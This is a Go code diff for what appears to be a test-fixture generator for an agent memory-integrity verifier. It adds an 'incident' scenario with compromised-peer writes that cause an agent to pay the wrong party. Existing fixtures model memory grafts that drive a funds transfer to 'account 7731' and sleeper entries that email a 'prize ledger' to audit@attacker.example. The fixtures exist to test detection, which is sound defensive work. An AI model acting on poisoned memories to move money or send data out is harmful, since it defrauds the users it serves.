@@ -42,6 +42,7 @@ var Specs = []Spec{
 	{Name: "tampered", Description: "One store with one case of every integrity failure memscope verify detects.", hmac: true, build: buildTampered},
 	{Name: "tombstone", Description: "A lawful deletion: the entry is gone, a signed ts: tombstone names it and the reason, and its original leaf stays provable.", build: buildTombstone},
 	{Name: "lategate", Description: "A write-first commit gate that rolled back a rejected candidate but left the store version advanced (a materialised rejection), next to a rejection that left no trace.", build: buildLateGate},
+	{Name: "incident", Description: "One store written in four phases with a snapshot after each: clean use, a compromised peer's no-source writes that flip the born-first query, the agent paying on the flipped selection, and a cleanup with one tombstoned and one silently deleted entry.", build: buildIncident},
 	{Name: "smsr", Description: "SMSR-style HMAC tags on every memory, some missing and some wrong.", hmac: true, build: buildSMSR},
 }
 
@@ -161,15 +162,15 @@ func (e *env) base() error {
 			return err
 		}
 	}
-	if err := e.st.AddAction(writer.Action{ID: "act-pay-chatwin", Tool: "transfer_funds", Params: map[string]string{"recipient": "Bruce Chatwin estate", "amount": "1000"},
+	if err := e.action(writer.Action{ID: "act-pay-chatwin", Tool: "transfer_funds", Params: map[string]string{"recipient": "Bruce Chatwin estate", "amount": "1000"},
 		Justification: []record.ID{e.id("plan-pay"), e.id("note-prize")}, Dispatched: true, TS: int64(e.tick())}); err != nil {
 		return err
 	}
-	if err := e.st.AddAction(writer.Action{ID: "act-email-wiki", Tool: "send_email", Params: map[string]string{"to": "editor@example.org", "body": "Chatwin summary"},
+	if err := e.action(writer.Action{ID: "act-email-wiki", Tool: "send_email", Params: map[string]string{"to": "editor@example.org", "body": "Chatwin summary"},
 		Justification: []record.ID{e.id("sum-patagonia")}, Dispatched: false, TS: int64(e.tick())}); err != nil {
 		return err
 	}
-	if err := e.st.AddAction(writer.Action{ID: "act-lookup", Tool: "web_search", Params: map[string]string{"q": "Boston Bruins arena"},
+	if err := e.action(writer.Action{ID: "act-lookup", Tool: "web_search", Params: map[string]string{"q": "Boston Bruins arena"},
 		Justification: []record.ID{e.id("sum-chara")}, Dispatched: true, TS: int64(e.tick())}); err != nil {
 		return err
 	}
@@ -287,7 +288,7 @@ func buildMemoryGraft(e *env, _ Options) ([]string, string, error) {
 			return nil, "", err
 		}
 	}
-	if err := e.st.AddAction(writer.Action{ID: "act-pay-7731", Tool: "transfer_funds", Params: map[string]string{"recipient": "account 7731", "amount": "1000"},
+	if err := e.action(writer.Action{ID: "act-pay-7731", Tool: "transfer_funds", Params: map[string]string{"recipient": "account 7731", "amount": "1000"},
 		Justification: []record.ID{e.id("graft-plan")}, Dispatched: true, TS: int64(e.tick())}); err != nil {
 		return nil, "", err
 	}
@@ -327,7 +328,7 @@ func buildSleeper(e *env, _ Options) ([]string, string, error) {
 					return nil, "", err
 				}
 			}
-			if err := e.st.AddAction(writer.Action{ID: fmt.Sprintf("act-email-%s-K%d", schedule, K), Tool: "send_email",
+			if err := e.action(writer.Action{ID: fmt.Sprintf("act-email-%s-K%d", schedule, K), Tool: "send_email",
 				Params:        map[string]string{"to": "audit@attacker.example", "body": "prize ledger"},
 				Justification: []record.ID{e.id(SleeperHandle(string(schedule), K, K))}, Dispatched: true, TS: int64(e.tick())}); err != nil {
 				return nil, "", err
@@ -365,7 +366,7 @@ func buildStructuralWrite(e *env, _ Options) ([]string, string, error) {
 	if err := e.recordQueries(); err != nil {
 		return nil, "", err
 	}
-	if err := e.st.AddAction(writer.Action{ID: "act-pay-fowler", Tool: "transfer_funds", Params: map[string]string{"recipient": "Karen Joy Fowler, account 7731", "amount": "1000"},
+	if err := e.action(writer.Action{ID: "act-pay-fowler", Tool: "transfer_funds", Params: map[string]string{"recipient": "Karen Joy Fowler, account 7731", "amount": "1000"},
 		Justification: []record.ID{e.id("payee-fowler"), e.id("note-prize")}, Dispatched: true, TS: int64(e.tick())}); err != nil {
 		return nil, "", err
 	}
